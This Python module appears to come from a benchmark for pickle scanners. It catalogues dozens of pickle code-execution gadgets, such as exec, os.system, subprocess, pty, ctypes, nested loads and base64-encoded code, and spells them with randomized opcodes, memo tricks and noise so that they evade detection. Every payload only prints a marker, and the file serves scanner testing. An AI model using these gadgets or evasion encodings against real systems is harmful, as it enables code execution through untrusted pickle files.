"""Attack streams that are drawn, not written: a payload as a small expression, spelt by a random choice of instructions.

The payloads are calls from the literature and from Python's documentation that print `MARK`; how they are written to the
stream is drawn for every value: which opcode, which protocol, over the memo or not, with harmless values between. What is
drawn is loaded by `bench/scan.py` and the tests in a throw-away process to prove that it runs.
Sources: "Pickle" in Python's documentation; Hide and Seek, arXiv 2508.19774; PickleFuzzer, arXiv 2605.15084; PickleBall,
arXiv 2508.15987; GHSA-6ggj-p76f-r8q5 (BUILD); Sultanik, "Never a dill moment", 2021.
"""

from __future__ import annotations

import marshal
import pickle
import struct
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random

MARK = "ASSAY-MARK"
CODE = f"print('{MARK}')"
ECHO = f"echo {MARK}"


@dataclass(frozen=True)
class Named:
    """A global."""

    module: str
    name: str


@dataclass(frozen=True)
class Called:
    """A callable and its arguments."""

    target: object
    args: tuple[object, ...] = ()


@dataclass(frozen=True)
class Done:
    """An object to which a stream does something with an opcode: BUILD, APPEND, ADDITEMS or SETITEM."""

    target: object
    steps: tuple[tuple[str, object], ...]


def n(dotted: str, name: str) -> Named:
    """A global, shorter."""
    return Named(dotted, name)


def c(module: str, name: str, *args: object) -> Called:
    """A call of a global, shorter."""
    return Called(Named(module, name), args)


def expressions() -> dict[str, object]:
    """Payloads by technique; every one prints `MARK` when a plain unpickler loads it."""
    os_module = c("importlib", "import_module", "os")
    compiled = c("builtins", "compile", CODE, "x", "exec")
    runs = n("builtins", "exec")
    partial = Called(n("functools", "partial"), (runs, CODE))
    space = c("types", "SimpleNamespace")
    inner = pickle.dumps(_Runs(), 2)
    return {
        "exec": c("builtins", "exec", CODE),
        "eval": c("builtins", "eval", CODE),
        "os.system": c("os", "system", ECHO),
        "posix.system": c("posix", "system", ECHO),
        "os.popen": Called(c("builtins", "getattr", c("os", "popen", ECHO + " >&2"), "read")),
        "subprocess.call": c("subprocess", "call", ["echo", MARK]),
        "subprocess.Popen": c("subprocess", "Popen", ["echo", MARK]),
        "subprocess.run": c("subprocess", "run", ["echo", MARK]),
        "os.spawnlp": c("os", "spawnlp", 0, "echo", "echo", MARK),
        "os.execlp": c("os", "execlp", "echo", "echo", MARK),
        "getattr-walk": Called(c("builtins", "getattr", os_module, "system"), (ECHO,)),
        "attrgetter": Called(Called(c("operator", "attrgetter", "system"), (os_module,)), (ECHO,)),
        "methodcaller": Called(c("operator", "methodcaller", "system", ECHO), (os_module,)),
        "reduce-getattr": Called(c("functools", "reduce", n("builtins", "getattr"), ["system"], os_module), (ECHO,)),
        "partial": Called(partial),
        "partial-BUILD": Called(
            Done(c("functools", "partial", n("builtins", "print")), (("b", (runs, (CODE,), {}, {})),))
        ),
        "list-map": c("builtins", "list", c("builtins", "map", runs, [CODE])),
        "tuple-map": c("builtins", "tuple", c("builtins", "map", runs, [CODE])),
        "deque-map": c("collections", "deque", c("builtins", "map", runs, [CODE])),
        "set-filter": c("builtins", "set", c("builtins", "filter", runs, [CODE])),
        "starmap": c("builtins", "list", c("itertools", "starmap", runs, [(CODE,)])),
        "sorted-map": c("builtins", "sorted", c("builtins", "map", runs, [CODE])),
        "frozenset-map": c("builtins", "frozenset", c("builtins", "map", runs, [CODE])),
        "bytes-map": c("builtins", "any", c("builtins", "map", runs, [CODE])),
        "dict-map": c("collections", "OrderedDict", c("itertools", "starmap", runs, [(CODE,)])),
        "counter-map": c("collections", "Counter", c("builtins", "map", runs, [CODE])),
        "timeit": c("timeit", "timeit", CODE, "pass", n("time", "perf_counter"), 1),
        "cProfile.run": c("cProfile", "run", CODE),
        "profile.run": c("profile", "run", CODE),
        "bdb": Called(n("bdb", "Bdb.run"), (c("bdb", "Bdb"), CODE)),
        "runpy._run_code": c("runpy", "_run_code", compiled, {}),
        "FunctionType": Called(c("types", "FunctionType", compiled, {})),
        "pickle.loads": c("pickle", "loads", inner),
        "_pickle.loads": c("_pickle", "loads", inner),
        "pickle._loads": c("pickle", "_loads", inner),
        "marshal": c("builtins", "exec", c("marshal", "loads", marshal.dumps(compile(CODE, "x", "exec")))),
        "interpreter": Called(
            n("code", "InteractiveInterpreter.runcode"), (c("code", "InteractiveInterpreter"), compiled)
        ),
        "pipepager": c("pydoc", "pipepager", MARK, "cat"),
        "pydoc.locate": Called(c("pydoc", "locate", "os.system"), (ECHO,)),
        "pkgutil.resolve_name": Called(c("pkgutil", "resolve_name", "os:system"), (ECHO,)),
        "pty": c("pty", "spawn", ["echo", MARK]),
        "CDLL": Called(c("builtins", "getattr", c("ctypes", "CDLL", None), "system"), (ECHO.encode(),)),
        "process_chunk": c("concurrent.futures.process", "_process_chunk", runs, [(CODE,)]),
        "atexit": c("atexit", "register", runs, CODE),
        "finalize": c("weakref", "finalize", n("os", "path"), runs, CODE),
        "timer": Called(n("threading", "Timer.run"), (c("threading", "Timer", 0, runs, [CODE]),)),
        "thread": Called(n("threading", "Thread.run"), (c("threading", "Thread", None, runs, None, (CODE,)),)),
        "APPEND-attribute": Done(space, (("b", {"append": runs}), ("a", CODE))),
        "ADDITEMS-attribute": Done(space, (("b", {"add": runs}), ("add", CODE))),
        "frompyfunc": Called(c("numpy", "frompyfunc", runs, 1, 1), (CODE,)),
        "dataclass": c("builtins", "exec", c("builtins", "str", CODE)),
        "codecs": c("builtins", "exec", c("_codecs", "decode", CODE.encode(), "latin1")),
        "base64": c("builtins", "exec", c("base64", "b64decode", "cHJpbnQoJ0FTU0FZLU1BUksnKQ==")),
        "iter": c("builtins", "next", c("builtins", "iter", partial, "x")),
        "zip-import": Called(n("os", "system"), (c("builtins", "str", ECHO),)),
        "logging-path": c("logging", "os.system", ECHO),
        "dotted-os": c("shutil", "os.system", ECHO),
        "dotted-builtins": c("random", "_os.system", ECHO),
    }


class _Runs:
    def __reduce__(self) -> tuple[object, ...]:
        return exec, (CODE,)


class Writer:
    """Spells expressions with random instructions; the memo is filled and read in random order."""

    def __init__(self, choice: Random, is_tidy: bool = False) -> None:
        self._choice, self._slots, self._is_tidy = choice, set[int](), is_tidy
        self.protocol = choice.choice([0, 2, 4, 4, 5])

    def stream(self, value: object) -> bytes:
        """A whole stream: protocol, noise, the value in a drawn place, and STOP."""
        begin = b"" if self.protocol == 0 and self._choice.random() < 0.7 else bytes([0x80, self.protocol])
        if _has_dots(value):
            begin = b"\x80\x04"
        return begin + self._noise() + self._placed(self.put(value)) + b"."

    def put(self, value: object) -> bytes:
        """One value."""
        if isinstance(value, Named):
            return self._remembered(self._named(value))
        if isinstance(value, Called):
            return self._called(value)
        if isinstance(value, Done):
            return self._done(value)
        if isinstance(value, str):
            return self._remembered(self._text(value))
        if isinstance(value, tuple):
            return self._tuple(value)
        if isinstance(value, list):
            return (
                b"](" + b"".join(map(self.put, value)) + b"e"
                if self._choice.random() < 0.5
                else b"(" + b"".join(map(self.put, value)) + b"l"
            )
        if isinstance(value, dict):
            return b"}" + b"".join(self.put(k) + self.put(v) + b"s" for k, v in value.items())
        if isinstance(value, bytes):
            return (
                b"B" + struct.pack("<I", len(value)) + value
                if len(value) > 255 or self._choice.random() < 0.5
                else b"C" + bytes([len(value)]) + value
            )
        return b"N" if value is None else self._number(int(value))  # type: ignore[call-overload]

    def _text(self, text: str) -> bytes:
        data = text.encode()
        forms: list[Callable[[], bytes]] = [
            lambda: b"X" + struct.pack("<I", len(data)) + data,
            lambda: b"\x8d" + struct.pack("<Q", len(data)) + data,
            lambda: b"\x8c" + bytes([len(data)]) + data,
            lambda: b"V" + data + b"\n",
            lambda: b"V" + b"".join(b"\\u%04x" % x for x in data) + b"\n",
            lambda: b"S" + repr(text).encode() + b"\n",
            lambda: b"U" + bytes([len(data)]) + data,
            lambda: b"T" + struct.pack("<i", len(data)) + data,
            lambda: b"S'" + b"".join(b"\\x%02x" % x for x in data) + b"'\n",
        ]
        return self._choice.choice(forms)()

    def _number(self, number: int) -> bytes:
        forms = [
            b"I%d\n" % number,
            b"L%dL\n" % number,
            b"K" + bytes([number]),
            b"M" + struct.pack("<H", number),
            b"J" + struct.pack("<i", number),
            b"\x8a\x02" + struct.pack("<h", number),
            b"\x8b" + struct.pack("<i", 2) + struct.pack("<h", number),
        ]
        return self._choice.choice(forms)

    def _named(self, value: Named) -> bytes:
        if self._choice.random() < 0.5:
            return b"c" + value.module.encode() + b"\n" + value.name.encode() + b"\n"
        if self._choice.random() < 0.3:
            slot, other = self._slot(), self._slot()
            return (
                self._text(value.name)
                + self._save(other)
                + b"0"
                + self._text(value.module)
                + self._save(slot)
                + b"0"
                + self._get(slot)
                + self._get(other)
                + b"\x93"
            )
        return self.put(value.module) + self._between() + self.put(value.name) + b"\x93"

    def _called(self, value: Called) -> bytes:
        form = self._choice.random()
        if isinstance(value.target, Named) and value.args and "." not in value.target.name and form < 0.15:
            return (
                b"(" + b"".join(map(self.put, value.args)) + f"i{value.target.module}\n{value.target.name}\n".encode()
            )
        if value.args and form < 0.3:
            return b"(" + self.put(value.target) + b"".join(map(self.put, value.args)) + b"o"
        return self.put(value.target) + self._between() + self._tuple(value.args) + b"R" + self._between()

    def _done(self, value: Done) -> bytes:
        out = self.put(value.target)
        for op, argument in value.steps:
            out += b"(" + self.put(argument) + b"\x90" if op == "add" else self.put(argument) + op.encode()
        return out

    def _tuple(self, items: Sequence[object]) -> bytes:
        inner = b"".join(map(self.put, items))
        if len(items) <= 3 and self._choice.random() < 0.5:
            return inner + (b")", b"\x85", b"\x86", b"\x87")[len(items)]
        return b"(" + inner + b"t"

    def _remembered(self, spelt: bytes) -> bytes:
        """A value that goes through the memo, perhaps over a slot that held something else."""
        drawn = self._choice.random()
        if drawn < 0.6:
            return spelt
        slot = self._slot()
        before = self._text("collections") + self._save(slot) + b"0" if drawn > 0.9 and not self._is_tidy else b""
        return before + spelt + self._save(slot) + b"0" + self._noise() + self._get(slot)

    def _slot(self) -> int:
        slot = self._choice.choice([self._choice.randrange(256), self._choice.randrange(100_000)])
        while slot in self._slots:
            slot = self._choice.randrange(1_000_000)
        self._slots.add(slot)
        return slot

    def _save(self, slot: int) -> bytes:
        return (
            b"q" + bytes([slot])
            if slot < 256 and self._choice.random() < 0.7
            else self._choice.choice([b"p%d\n" % slot, b"r" + struct.pack("<I", slot)])
        )

    def _get(self, slot: int) -> bytes:
        return (
            b"h" + bytes([slot])
            if slot < 256 and self._choice.random() < 0.7
            else self._choice.choice([b"g%d\n" % slot, b"j" + struct.pack("<I", slot)])
        )

    def _between(self) -> bytes:
        return self._noise() if self._choice.random() < 0.2 else b""

    def _noise(self) -> bytes:
        """Harmless values that come and go."""
        forms = [
            b"",
            b"N0",
            b"K\x070",
            b"]0",
            b"}0",
            b"(1",
            b"(K\x01K\x02t0",
            b"G" + struct.pack(">d", 1.5) + b"0",
            b"\x880",
            b"N20" + b"0",
            b"ccollections\nOrderedDict\n)R0",
            b"(I01\nI00\nd0",
            b"\x8f0",
            b"(K\x01\x910",
            b"F2.5\n0",
            b"\x96" + struct.pack("<Q", 2) + b"ab0",
            b"C\x02ab0",
        ]
        return b"".join(self._choice.choices(forms, k=self._choice.randrange(3)))

    def _placed(self, spelt: bytes) -> bytes:
        """Where the value ends up: returned, popped, in a container, as state or argument of something listed."""
        forms = [
            spelt,
            spelt + b"0N",
            b"](" + spelt + b"e",
            b"}" + self._text("w") + spelt + b"s",
            spelt + b"\x85",
            b"(" + spelt + b"1N",
            b"ccollections\nOrderedDict\n)R" + self._text("w") + spelt + b"s",
            b"(" + self._text("a") + spelt + b"d",
            b"ccollections\nOrderedDict\n)R}" + self._text("x") + spelt + b"sb",
        ]
        return self._choice.choice(forms)


def _has_dots(value: object) -> bool:
    if isinstance(value, Named):
        return "." in value.name
    parts = (
        (value.target, *value.args)
        if isinstance(value, Called)
        else (value.target, *(a for _, a in value.steps))
        if isinstance(value, Done)
        else value
        if isinstance(value, list | tuple)
        else ()
    )
    return any(map(_has_dots, parts))


def drawn_stream(choice: Random) -> tuple[str, bytes]:
    """A technique and a stream that runs it."""
    known = expressions()
    technique = choice.choice(sorted(known))
    return technique, Writer(choice).stream(known[technique])
